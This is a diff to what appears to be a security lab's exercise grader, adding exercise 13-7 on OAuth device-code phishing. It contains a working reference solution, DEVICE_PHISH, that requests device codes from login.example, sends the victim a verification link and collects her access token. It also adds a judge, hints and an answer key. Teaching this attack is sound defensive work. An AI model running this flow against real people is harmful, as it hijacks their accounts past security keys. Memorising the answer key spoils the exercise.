@@ -19,6 +19,7 @@ from labutils.classroom.judging import (
     Verdict,
     compare,
     nearly,
+    not_a_response,
     value,
     verifier,
     written,
@@ -29,6 +30,7 @@ from labutils.classroom.registry import (
 )
 from labutils.identity.person import Form
 from labutils.lab import dice
+from labutils.text import counted
 
 from .settings_around_a_key import CLOSED, SETTINGS
 
@@ -62,6 +64,15 @@ CHECK_ANSWER = code("""
 WITHOUT_KEY = code("""
     def without_key(page):
         return re.sub(' data-options="[^"]*"', "", page)
+""")
+DEVICE_PHISH = code("""
+    def device_phish(tom, send):
+        form = {"client_id": "screen"}
+        started = tom.post("https://login.example/device_authorization", data=form).json()
+        send(started["verification_uri_complete"])
+        form = {"grant_type": "urn:ietf:params:oauth:grant-type:device_code"}
+        form |= {"client_id": "screen", "device_code": started["device_code"]}
+        return tom.post("https://login.example/token", data=form)
 """)
 POLL = code("""
     def poll(browser, started, wait):
@@ -319,6 +330,39 @@ def wrong_page(answer: Tried, page: str, ticket: str) -> Verdict | None:
         other = next((one for one in shown.split() if one not in want.split()), "less than before")
         return Verdict("differs", case, written(other), "everything else unchanged", mistake="form")
     return None
+
+
+# --- 13-7: a code for a device that is none -----------------------------------------------------
+
+
+def gets_tokens(answer: Tried) -> Verdict:
+    """The judge of 13-7: Ada has a key, opens the link that she is sent, and Tom gets her token."""
+    from . import ways_round_a_key  # it loads the library of security keys, which takes a second
+
+    account, links = ways_round_a_key.employ("security key"), list[str]()
+
+    def send(link: str) -> None:
+        links.append(str(link))
+        if str(link).startswith("https://login.example/"):
+            ways_round_a_key.visit(account, str(link))
+
+    case = "Ada, with her key"
+    try:
+        response = answer(account.apps.tom, send)
+    except Exception:
+        return answer.raised(case, "raises")
+    if verdict := not_a_response(response, case):
+        return verdict
+    if len(links) != 1:
+        return Verdict("differs", case, counted(len(links), "link"), "one", mistake="send")
+    said = f"{response.status_code}: {written(response.text)}"
+    if response.url.path != "/token":
+        return Verdict("differs", case, f"the response of {response.url.path}", mistake="token")
+    token = response.json().get("access_token") if response.is_success else None
+    if not ways_round_a_key.reads_as_ada(account.apps.tom, token):
+        is_pending = "authorization_pending" in response.text
+        return Verdict("refused_good", case, said, mistake="link" if is_pending else "token")
+    return PASSED
 
 
 # --- 13-4: polling for a device -----------------------------------------------------------------
@@ -774,6 +818,43 @@ EXERCISES = (
             "mark.",
         ),
         WITHOUT_KEY,
+    ),
+    Exercise(
+        "13-7",
+        "function",
+        gets_tokens,
+        "Ada was on the right site, and touched her real key. Tom has her token.",
+        {
+            "link": (
+                "Nobody has answered yet. Send the `verification_uri_complete`, which has the code "
+                "in it; without it Ada would have to type a code that she never saw.",
+                altered(DEVICE_PHISH, ("verification_uri_complete", "verification_uri")),
+            ),
+            "send": (
+                "Send Ada one link, with send(link), before you ask for the token.",
+                altered(DEVICE_PHISH, ('    send(started["verification_uri_complete"])\n', "")),
+            ),
+            "token": (
+                "Ask https://login.example/token, with a form of three fields: grant_type, "
+                "client_id and the device_code of the response, not the user_code.",
+                altered(DEVICE_PHISH, ('started["device_code"]', 'started["user_code"]')),
+            ),
+            "response": (
+                "Return the whole response, as the browser returns it.",
+                altered(DEVICE_PHISH, ('/token", data=form)', '/token", data=form).json()')),
+            ),
+            "raises": (
+                "tom is an httpx.Client: tom.post(url, data={...}).json() is a dictionary, with "
+                "verification_uri_complete and device_code.",
+                altered(DEVICE_PHISH, ("data=form).json()", "data=form)")),
+            ),
+        },
+        (
+            "Three steps: POST for the codes, send(...) the link, POST for the token.",
+            "started = tom.post('https://login.example/device_authorization', data={...}).json(); "
+            "then started['verification_uri_complete'] and started['device_code'].",
+        ),
+        DEVICE_PHISH,
     ),
     Exercise(
         "13-4",
